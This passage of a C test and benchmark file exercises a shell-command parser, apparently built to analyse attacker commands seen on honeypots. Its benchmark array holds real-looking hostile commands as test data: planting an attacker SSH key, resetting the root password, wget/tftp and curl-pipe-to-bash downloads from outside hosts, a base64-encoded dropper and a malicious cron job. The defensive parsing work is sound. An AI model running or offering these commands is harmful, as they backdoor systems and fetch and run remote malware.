    EXPECT(2, "id", 30, 34, "id", 1, 1, AP_VIA_PRINTF, AP_CONN_SEMI);
    EXPECT(3, "who", 30, 34, "who", 1, 1, AP_VIA_PRINTF, AP_CONN_SEMI);
    CHECK_EQ_INT(parse("echo 'uname -a' | sh"), 3);
    EXPECT(2, "uname -a", 18, 20, "uname", 1, 1, AP_VIA_PRINTF, AP_CONN_SEMI);
    CHECK_EQ_INT(parse("printf '%s' aWQ= | base64 -d | sh"), 4);
    EXPECT(3, "id", 31, 33, "id", 1, 2, AP_VIA_BASE64, AP_CONN_END);
    CHECK_EQ_INT(parse("printf -v x '\\x69\\x64' | sh"), 2);
}

static void test_heredoc_to_shell(void)
{
    const char *in = "bash <<EOF\nwget x\ncurl y | sh\nEOF\necho done";
    CHECK_EQ_INT(parse(in), 5);
    EXPECT(0, "bash <<EOF", 0, 10, "bash", 0, -1, 0, AP_CONN_SEMI);
    EXPECT(1, "wget x", 11, 17, "wget", 1, 0, AP_VIA_HEREDOC, AP_CONN_SEMI);
    EXPECT(2, "curl y", 18, 24, "curl", 1, 0, AP_VIA_HEREDOC, AP_CONN_PIPE);
    EXPECT(3, "sh", 27, 29, "sh", 1, 0, AP_VIA_HEREDOC, AP_CONN_SEMI);
    EXPECT(4, "echo done", 34, 43, "echo", 0, -1, 0, AP_CONN_END);
    /* quoted delimiter, and a shell whose here-document is read after the line's other
     * statements */
    CHECK_EQ_INT(parse("sh <<'X'; echo a\nid\nX"), 3);
    EXPECT(0, "sh <<'X'", 0, 8, "sh", 0, -1, 0, AP_CONN_SEMI);
    EXPECT(1, "echo a", 10, 16, "echo", 0, -1, 0, AP_CONN_SEMI);
    EXPECT(2, "id", 17, 19, "id", 1, 0, AP_VIA_HEREDOC, AP_CONN_SEMI);
}

/* ---- bounds ----------------------------------------------------------------------------- */

static void test_depth_bound(void)
{
    const char *in = "sh -c \"sh -c 'eval \\\"bash -c id\\\"'\"";
    CHECK_EQ_INT(parse(in), 5);
    EXPECT(1, "sh -c 'eval \"bash -c id\"'", 0, 35, "sh", 1, 0, AP_VIA_SH_C, AP_CONN_END);
    EXPECT(2, "eval \"bash -c id\"", 0, 35, "eval", 2, 1, AP_VIA_SH_C, AP_CONN_END);
    EXPECT(3, "bash -c id", 0, 35, "bash", 3, 2, AP_VIA_SH_C | AP_VIA_EVAL, AP_CONN_END);
    EXPECT(4, "id", 0, 35, "id", 4, 3, AP_VIA_SH_C | AP_VIA_EVAL, AP_CONN_END);
    CHECK_EQ_INT(parse_with(in, strlen(in), 2, 0), 3); /* stops at depth 2 */
    EXPECT(2, "eval \"bash -c id\"", 0, 35, "eval", 2, 1, AP_VIA_SH_C, AP_CONN_END);
    CHECK_EQ_INT(TR, 0); /* the depth bound is not a truncation */
    /* group nesting is clamped to the depth bound */
    CHECK_EQ_INT(parse_with("{ { { { ( ( ( id ) ) ) } } } }", 30, 3, 0), 1);
    EXPECT(0, "id", 14, 16, "id", 3, -1, AP_VIA_GROUP, AP_CONN_END);
}

static void test_statement_bound(void)
{
    CHECK_EQ_INT(parse_with("a;b;c;d;e", 9, 0, 3), 3);
    CHECK_EQ_INT(TR, 1);
    EXPECT(2, "c", 4, 5, "c", 0, -1, 0, AP_CONN_SEMI);
}

static double seconds(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void fill(char *b, size_t n, const char *pattern)
{
    size_t k = strlen(pattern);
    for (size_t i = 0; i < n; i++)
        b[i] = pattern[i % k];
}

static void test_huge_inputs(void)
{
    size_t n = 16u << 20;
    char *b = malloc(n);
    CHECK(b != NULL);
    if (!b)
        return;
    static const char *const patterns[] = {"a;", "$(", "$( ( ", "{ ", "echo 'x", "\"", "`a` ",
                                           "<<EOF\n", "sh -c '", "eval ", "for i in $(a); do ",
                                           "$(a)", "\\", "a "};
    double worst = 0;
    for (size_t k = 0; k < sizeof patterns / sizeof patterns[0]; k++) {
        fill(b, n, patterns[k]);
        double t0 = seconds();
        parse_with(b, n, 0, 0);
        double dt = seconds() - t0;
        if (dt > worst)
            worst = dt;
        check_invariants(n, 6);
    }
    unsigned seed = 12345;
    for (size_t i = 0; i < n; i++) {
        seed = seed * 1103515245u + 12345u;
        b[i] = "$()'\"`\\;|&<>{} \nab=#x"[(seed >> 16) % 21];
    }
    double t0 = seconds();
    parse_with(b, n, 0, 0);
    double dt = seconds() - t0;
    if (dt > worst)
        worst = dt;
    check_invariants(n, 6);
    fill(b, n, "a;");
    parse_with(b, n, 0, 0);
    CHECK_EQ_INT(N, 10000); /* the default statement bound */
    CHECK_EQ_INT(TR, 1);
    /* a deep $( ( ( ... ) ) ) nest, 100000 levels, closed */
    size_t depth = 100000, k = 0;
    memcpy(b + k, "$(", 2), k += 2;
    for (size_t d = 0; d < depth; d++)
        b[k++] = '(';
    b[k++] = 'x';
    for (size_t d = 0; d < depth; d++)
        b[k++] = ')';
    b[k++] = ')';
    parse_with(b, k, 0, 0);
    check_invariants(k, 6);
    fprintf(stderr, "huge inputs: slowest 16 MB parse %.3f s\n", worst);
    CHECK(worst < 5.0); /* linear: well under a second on a normal machine, even with ASan */
    free(b);
}

/* ---- bench ------------------------------------------------------------------------------ */

static const char *const bench_lines[] = {
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0pA4 "
    "mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
    "echo \"root:Xy7pQ2kL\"|chpasswd|bash",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh; chmod 777 "
    "bins.sh; sh bins.sh; tftp 1.2.3.4 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf *",
    "/bin/busybox wget http://1.2.3.4/x; /bin/busybox ECCHI",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l | grep -v '^#' ; echo \"* * * * * /tmp/.x/upd >/dev/null 2>&1\" | crontab -",
    "ps aux | grep -v grep | grep -i miner | awk '{print $2}' | xargs kill -9",
    "echo d2dldCBodHRwOi8vMS4yLjMuNC94LnNoOyBjaG1vZCAreCB4LnNoOyAuL3guc2g= | base64 -d | bash",
    "enable; system; shell; sh; cat /proc/mounts; /bin/busybox PEACH",
    "nohup sh -c 'curl -s http://x.y/a.sh | bash' >/dev/null 2>&1 &",
};

static int bench(void)
{
    size_t nl = sizeof bench_lines / sizeof bench_lines[0];
    size_t lens[32];
    for (size_t i = 0; i < nl; i++)
        lens[i] = strlen(bench_lines[i]);
    ap_arena arena;
    ap_arena_init(&arena, 1 << 16);
    size_t rounds = 200000, stmts = 0;
    double t0 = seconds();
    for (size_t r = 0; r < rounds; r++) {
        for (size_t i = 0; i < nl; i++) {
            ap_stmt *s;
            size_t n;
            ap_arena_reset(&arena);
            if (ap_shell_parse(ap_str_make(bench_lines[i], lens[i]), NULL, &arena, &s, &n, NULL) !=
                AP_OK)
                return 1;
            stmts += n;
        }
    }
    double dt = seconds() - t0;
    printf("parse: %zu statements in %.3f s: %.0f statements/s (%.0f lines/s)\n", stmts, dt,
           (double)stmts / dt, (double)(rounds * nl) / dt);
    stmts = 0;
    rounds /= 2;
    t0 = seconds();
    for (size_t r = 0; r < rounds; r++) {
        for (size_t i = 0; i < nl; i++) {
            ap_stmt *s;
            size_t n;
            ap_arena_reset(&arena);
            if (ap_shell_parse(ap_str_make(bench_lines[i], lens[i]), NULL, &arena, &s, &n, NULL) !=
                AP_OK)
                return 1;
            for (size_t k = 0; k < n; k++) {
                ap_str out;
                if (ap_normalise_stmt(&s[k], &arena, &out) != AP_OK)
                    return 1;
            }
            stmts += n;
        }
    }
    dt = seconds() - t0;
    printf("parse + normalise: %zu statements in %.3f s: %.0f statements/s\n", stmts, dt,
           (double)stmts / dt);
    ap_arena_free(&arena);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc > 1 && strcmp(argv[1], "bench") == 0)
        return bench();
    ap_arena_init(&A, 1 << 16);
    test_pipeline();
    test_lockr_is_not_ssh();
    test_mdrfckr();
    test_chpasswd_pipe();
    test_busybox();
    test_blanks_and_connectors();
    test_quotes();
    test_unbalanced();
    test_nul_and_binary();
    test_assignments();
    test_redirections();
    test_heredoc_authorized_keys();
    test_wrappers();
    test_for_loop();
    test_if_case_groups();
    test_substitutions();
    test_sh_c();
    test_base64_pipe();
    test_decoded_forms();
    test_printf_droppers();
    test_heredoc_to_shell();
    test_depth_bound();
    test_statement_bound();
    test_huge_inputs();
    ap_arena_free(&A);
    CHECK_DONE();
}
